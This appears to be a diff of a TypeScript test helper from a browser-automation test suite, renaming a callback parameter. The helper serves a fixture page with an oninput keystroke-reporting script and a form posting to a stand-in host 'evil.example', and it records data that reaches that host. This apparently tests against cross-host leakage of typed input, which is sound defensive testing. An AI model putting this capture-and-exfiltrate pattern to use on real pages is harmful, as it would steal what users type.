@@ -11,15 +11,15 @@ const field = { by: 'css', css: '#u' };
 /** A form at both hosts; `arrived` is what the other host gets. */
 const serveForms = async (t: ExecutionContext): Promise<{ readonly port: number; readonly arrived: string[] }> => {
   const arrived: string[] = [];
-  const port = await serveHttp(t, async (request, answer) => {
+  const port = await serveHttp(t, async (request, response) => {
     let body = '';
     for await (const chunk of request) body += String(chunk);
     if (request.headers.host?.startsWith('evil') && !['/form', '/favicon.ico'].includes(request.url ?? ''))
       arrived.push(`${request.url} ${body}`);
     const to = new URL(request.url ?? '', 'http://x').searchParams.get('to');
-    if (to !== null) return void answer.writeHead(302, { location: to }).end();
+    if (to !== null) return void response.writeHead(302, { location: to }).end();
     const report = `fetch('/typed', { method: 'POST', body: [...this.value].join(' ') })`;
-    answer.setHeader('content-type', 'text/html').end(`<input id="u" oninput="${report}">
+    response.setHeader('content-type', 'text/html').end(`<input id="u" oninput="${report}">
       <form action="http://evil.example:${request.socket.localPort}/posted" method="post">
         <input id="v" name="v"><button>Send</button></form>`);
   });
